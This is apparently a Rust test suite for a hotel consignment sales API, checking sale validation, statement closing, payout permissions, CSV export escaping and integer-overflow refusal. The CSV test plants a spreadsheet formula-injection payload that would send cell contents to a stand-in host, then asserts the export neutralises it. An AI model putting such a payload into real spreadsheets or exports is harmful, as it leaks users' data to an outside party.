//! Money that cannot be dodged: a sale always falls inside a statement and never below the
//! consignment price, only the payee records a payout, a month closes once it is over, the
//! statement CSV cannot run formulas, and amounts never wrap.

use chrono::{DateTime, Duration, Utc};
use reqwest::StatusCode;
use serde_json::{Value, json};

use crate::both_backends;
use crate::consignment_rules::{sold, stocked_shelf_with};
use crate::support::{TestApp, fields, problem};
use kriya::domain::consignment::Period;

/// What `stocked_shelf_with` consigns each unit at.
const CONSIGNED_AT: i64 = 50_000;

/// Moves the receipt of every lot back in time, as if the goods had arrived then: the API
/// records receipts at the moment they happen, so a test of past months starts here.
pub fn received_days_ago(app: &TestApp, days: i64) {
    use diesel::prelude::*;
    use kriya::db::portable::DbTime;
    use kriya::db::schema::shelf_lots::dsl::*;
    let at = Utc::now() - Duration::days(days);
    app.db(|c| {
        diesel::update(shelf_lots)
            .set(received_at.eq(DbTime(at)))
            .execute(c)
    });
}

fn sale(variant_id: &str, quantity: i64, price: i64, sold_at: Option<DateTime<Utc>>) -> Value {
    let mut body = json!({"items": [{"variant_id": variant_id, "quantity": quantity, "unit_price_idr": price}]});
    if let Some(t) = sold_at {
        body["sold_at"] = json!(t);
    }
    body
}

both_backends! {
    async fn a_sale_cannot_fall_outside_every_statement(app) {
        let s = stocked_shelf_with(&app, 6, json!({"price_idr": 850_000})).await;
        let sales = format!("/v1/hotels/{}/sales", s.hotel_id);
        let token = Some(s.hotel.token.as_str());
        let ancient: DateTime<Utc> = "1999-12-01T00:00:00Z".parse().unwrap();
        for (when, why) in [
            (Some(ancient), "before the units reached the shelf (and before any statement)"),
            (Some(Utc::now() - Duration::days(1)), "the day before the units arrived"),
            (Some(Utc::now() + Duration::days(2)), "in the future"),
        ] {
            let body = problem(app.post(&sales, token, sale(&s.variant_id, 1, 60_000, when)).await, 422).await;
            assert_eq!(fields(&body), vec!["sold_at"], "{why}: {body}");
        }
        // One rupiah for an 850 000-rupiah batik consigned at 50 000: the line is named.
        let body = problem(app.post(&sales, token, sale(&s.variant_id, 1, 1, None)).await, 422).await;
        assert_eq!(fields(&body), vec!["items[0].unit_price_idr"], "{body}");
        assert!(body["errors"][0]["message"].as_str().unwrap().contains("50000"), "{body}");
        let body = problem(app.post(&sales, token, sale(&s.variant_id, 2, CONSIGNED_AT - 1, None)).await, 422).await;
        assert_eq!(fields(&body), vec!["items[0].unit_price_idr"]);
        assert_eq!(sold(&app), 0, "nothing written for the refused sales");
        let stock: Value = app.get(&format!("/v1/products/{}/stock", s.product_id), Some(&s.seller.token)).await.json().await.unwrap();
        assert_eq!(stock["variants"][0]["sold"], 0, "no unit left the shelf");

        // At the consignment price, now: recorded.
        let res = app.post(&sales, token, sale(&s.variant_id, 1, CONSIGNED_AT, None)).await;
        assert_eq!(res.status(), StatusCode::CREATED);

        // Goods that arrived two months ago may be sold in last month, until it closes.
        received_days_ago(&app, 62);
        let last_month = Utc::now() - Duration::days(35);
        let period = Period::containing(last_month);
        let res = app.post(&sales, token, sale(&s.variant_id, 1, 70_000, Some(last_month))).await;
        assert_eq!(res.status(), StatusCode::CREATED);
        let statement = format!("/v1/consignment-agreements/{}/statements/{period}", s.agreement);
        let res = app.post(&format!("{statement}/close"), Some(&s.seller.token), json!({})).await;
        assert_eq!(res.status(), StatusCode::OK);
        let closed: Value = res.json().await.unwrap();
        assert_eq!(closed["gross_idr"], 70_000);
        let body = problem(app.post(&sales, token, sale(&s.variant_id, 1, 70_000, Some(last_month + Duration::hours(1)))).await, 409).await;
        assert!(body["detail"].as_str().unwrap().contains("closed"), "{body}");
        assert_eq!(sold(&app), 2);
        app.assert_ledger_consistent();
    }

    async fn every_bad_line_of_a_sale_is_named(app) {
        let s = stocked_shelf_with(&app, 4, json!({})).await;
        // A second variant of another product on the same shelf.
        let other = app.create_product(&s.seller, json!({})).await;
        let (pid, vid) = (other["id"].as_str().unwrap(), other["variants"][0]["id"].as_str().unwrap());
        app.restock(&s.seller, pid, vid, 3).await;
        let c = app.dispatch(&s.seller, &s.agreement, vid, 3, 90_000).await;
        let res = app.post(&format!("/v1/consignments/{}/receive", c["id"].as_str().unwrap()), Some(&s.hotel.token), json!({})).await;
        assert_eq!(res.status(), StatusCode::OK);
        let body = json!({"items": [
            {"variant_id": s.variant_id, "quantity": 1, "unit_price_idr": 10},
            {"variant_id": vid, "quantity": 1, "unit_price_idr": 89_999},
        ]});
        let res = app.post(&format!("/v1/hotels/{}/sales", s.hotel_id), Some(&s.hotel.token), body).await;
        let body = problem(res, 422).await;
        assert_eq!(fields(&body), vec!["items[0].unit_price_idr", "items[1].unit_price_idr"]);
        assert_eq!(sold(&app), 0);
    }

    async fn the_payee_records_the_payout_once_the_month_is_closed(app) {
        let s = stocked_shelf_with(&app, 2, json!({})).await;
        let statement = |p: Period| format!("/v1/consignment-agreements/{}/statements/{p}", s.agreement);
        // This month still takes sales: it cannot be closed yet.
        let this_month = Period::containing(Utc::now());
        let body = problem(app.post(&format!("{}/close", statement(this_month)), Some(&s.seller.token), json!({})).await, 409).await;
        assert!(body["detail"].as_str().unwrap().contains("not over"), "{body}");

        let last = Period::containing(Utc::now() - Duration::days(35));
        let res = app.post(&format!("{}/close", statement(last)), Some(&s.seller.token), json!({})).await;
        assert_eq!(res.status(), StatusCode::OK);
        // The hotel owes the money: it cannot mark its own debt paid.
        problem(app.post(&format!("{}/paid", statement(last)), Some(&s.hotel.token), json!({"reference": "self-service"})).await, 403).await;
        let still: Value = app.get(&statement(last), Some(&s.seller.token)).await.json().await.unwrap();
        assert_eq!(still["status"], "closed");
        let res = app.post(&format!("{}/paid", statement(last)), Some(&s.seller.token), json!({"reference": "BCA 8841"})).await;
        assert_eq!(res.status(), StatusCode::OK);
        let paid: Value = res.json().await.unwrap();
        assert_eq!((paid["status"].as_str(), paid["payout_reference"].as_str()), (Some("paid"), Some("BCA 8841")));

        // An admin may record it too.
        let earlier = Period::containing(Utc::now() - Duration::days(70));
        let res = app.post(&format!("{}/close", statement(earlier)), Some(&s.seller.token), json!({})).await;
        assert_eq!(res.status(), StatusCode::OK);
        let admin = app.admin().await;
        let res = app.post(&format!("{}/paid", statement(earlier)), Some(&admin.token), json!({})).await;
        assert_eq!(res.status(), StatusCode::OK);
    }

    async fn statement_csv_cells_cannot_run_as_formulas(app) {
        let title = r#"=HYPERLINK("https://x.example/?"&A1,"open")"#;
        let s = stocked_shelf_with(&app, 2, json!({"title": title})).await;
        let res = app.post(&format!("/v1/hotels/{}/sales", s.hotel_id), Some(&s.hotel.token), sale(&s.variant_id, 1, 60_000, None)).await;
        assert_eq!(res.status(), StatusCode::CREATED);
        let period = Period::containing(Utc::now());
        let res = app.client
            .get(app.url(&format!("/v1/consignment-agreements/{}/statements/{period}", s.agreement)))
            .bearer_auth(&s.seller.token)
            .header("accept", "text/csv")
            .send().await.unwrap();
        assert_eq!(res.status(), StatusCode::OK);
        let text = res.text().await.unwrap();
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
        let sale_row = rows.iter().find(|r| &r[0] == "sale").expect("a sale row");
        assert_eq!(&sale_row[3], format!("'{title}"), "{text}");
        for row in &rows {
            for cell in row {
                let number = cell.parse::<i64>().is_ok();
                assert!(number || !cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell:?} in {text}");
            }
        }
    }

    async fn adjustments_and_money_sums_never_wrap(app) {
        let seller = app.active_seller().await;
        let p = app.create_product(&seller, json!({})).await;
        let (pid, vid) = (p["id"].as_str().unwrap(), p["variants"][0]["id"].as_str().unwrap());
        let adjust = format!("/v1/products/{pid}/stock/adjustments");
        // `i64::MIN.abs()` wraps to itself in a release build and passed a `<= 100000` check.
        for delta in [json!(i64::MIN), json!(i64::MAX), json!(-100_001), json!(0)] {
            let body = json!({"variant_id": vid, "delta": delta, "reason": "hostile"});
            let res = problem(app.post(&adjust, Some(&seller.token), body).await, 422).await;
            assert_eq!(fields(&res), vec!["delta"], "{delta}");
        }

        // 93 lines of 100 000 units at a trillion rupiah: each line fits in i64, their sum
        // does not. The sale is refused, not wrapped into a small or negative total.
        const LINES: usize = 93;
        let variants: Vec<Value> = (0..LINES)
            .map(|i| json!({"sku": format!("MAX-{i}"), "options": {"size": format!("S{i}")}}))
            .collect();
        let (hotel, hotel_id) = app.active_hotel().await;
        let agreement = app.agreement(&seller, &hotel, &hotel_id, 1000, 30).await;
        let p = app.create_product(&seller, json!({"variants": variants, "price_idr": 1_000_000_000_000_i64})).await;
        let pid = p["id"].as_str().unwrap();
        let ids: Vec<String> = p["variants"].as_array().unwrap().iter().map(|v| v["id"].as_str().unwrap().to_owned()).collect();
        for id in &ids {
            app.restock(&seller, pid, id, 100_000).await;
        }
        let items: Vec<Value> = ids.iter()
            .map(|id| json!({"variant_id": id, "quantity": 100_000, "unit_price_idr": 1_000_000_000_000_i64}))
            .collect();
        let res = app.post("/v1/consignments", Some(&seller.token), json!({"agreement_id": agreement, "items": items})).await;
        assert_eq!(res.status(), StatusCode::CREATED);
        let c: Value = res.json().await.unwrap();
        let res = app.post(&format!("/v1/consignments/{}/receive", c["id"].as_str().unwrap()), Some(&hotel.token), json!({})).await;
        assert_eq!(res.status(), StatusCode::OK);
        let res = app.post(&format!("/v1/hotels/{hotel_id}/sales"), Some(&hotel.token), json!({"items": items})).await;
        let body = problem(res, 422).await;
        assert_eq!(fields(&body), vec!["items"], "{body}");
        assert_eq!(sold(&app), 0, "nothing sold");
        app.assert_ledger_consistent();
    }
}
